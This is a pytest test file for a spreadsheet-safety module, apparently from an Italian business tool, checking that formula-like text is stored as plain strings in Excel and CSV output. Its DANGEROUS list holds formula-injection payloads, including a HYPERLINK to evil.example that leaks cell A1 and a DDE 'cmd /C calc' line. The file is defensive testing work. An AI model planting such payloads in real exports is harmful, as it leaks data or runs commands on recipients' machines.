"""Text in spreadsheet cells stays text."""

from __future__ import annotations

import datetime as dt
import io

import numpy as np
import openpyxl
import pandas as pd
import pytest

from cx_sme.core import safe_cells
from cx_sme.core.i18n import set_language

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1, "clic")',
    "+39 02 1234567",
    "-5% sconto",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=cmd|' /C calc'!A0",
    "=1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_like_text_is_written_as_a_string(text: str) -> None:
    workbook = openpyxl.Workbook()
    cell = workbook.active["A1"]
    safe_cells.write_text(cell, text)
    buffer = io.BytesIO()
    workbook.save(buffer)

    reopened = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))["Sheet"]["A1"]
    assert reopened.data_type == "s"
    assert reopened.value == text.replace("\r", "\n")
    assert reopened.quotePrefix is True


def test_plain_text_has_no_quote_prefix() -> None:
    workbook = openpyxl.Workbook()
    cell = workbook.active["A1"]
    safe_cells.write_text(cell, "Consegna in ritardo")
    assert cell.data_type == "s" and not cell.quotePrefix


def test_illegal_characters_are_dropped() -> None:
    assert safe_cells.clean_text("Rossi\x00 \x07Srl\x1b\ufffe") == "Rossi Srl"
    assert safe_cells.clean_text("riga 1\nriga 2\tcol") == "riga 1\nriga 2\tcol"
    assert safe_cells.clean_text("caffè ☕ €") == "caffè ☕ €"
    assert safe_cells.clean_text(None) == ""
    # the workbook accepts what is left
    workbook = openpyxl.Workbook()
    safe_cells.write_text(workbook.active["A1"], "a\x01b\x02c")
    assert workbook.active["A1"].value == "abc"


def test_long_text_is_cut_and_the_cut_is_said() -> None:
    text = "x" * 40_000
    cut = safe_cells.clean_text(text)
    assert len(cut) == safe_cells.MAX_CELL_CHARS
    kept = len(cut) - len(cut.rstrip("]").split(" … ")[-1]) - 4
    assert cut.startswith("x" * 30_000)
    assert "tagliato" in cut
    omitted = 40_000 - cut.index(" … ")
    assert f"{omitted:,}".replace(",", ".") in cut
    assert kept > 0
    set_language("en")
    english = safe_cells.clean_text(text)
    assert "left out" in english and len(english) == safe_cells.MAX_CELL_CHARS


def test_text_at_the_limit_is_kept_whole() -> None:
    text = "y" * safe_cells.MAX_CELL_CHARS
    assert safe_cells.clean_text(text) == text


def test_write_value_keeps_numbers_and_dates_typed() -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    values = [
        12.5,
        np.int64(3),
        dt.date(2025, 3, 1),
        pd.Timestamp("2025-03-01"),
        None,
        float("nan"),
        pd.NaT,
        "=2+2",
    ]
    for n, value in enumerate(values, start=1):
        safe_cells.write_value(sheet.cell(row=n, column=1), value)
    assert sheet["A1"].value == 12.5 and sheet["A1"].data_type == "n"
    assert sheet["A2"].value == 3 and isinstance(sheet["A2"].value, int)
    assert sheet["A3"].data_type == "d"
    assert sheet["A4"].value == dt.datetime(2025, 3, 1)
    assert sheet["A5"].value is None and sheet["A6"].value is None and sheet["A7"].value is None
    assert sheet["A8"].data_type == "s" and sheet["A8"].value == "=2+2"


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_text_is_prefixed(text: str) -> None:
    assert safe_cells.csv_text(text) == "'" + text.replace("\r", "\n")


def test_csv_text_leaves_ordinary_text_alone() -> None:
    assert safe_cells.csv_text("Rossi Srl") == "Rossi Srl"
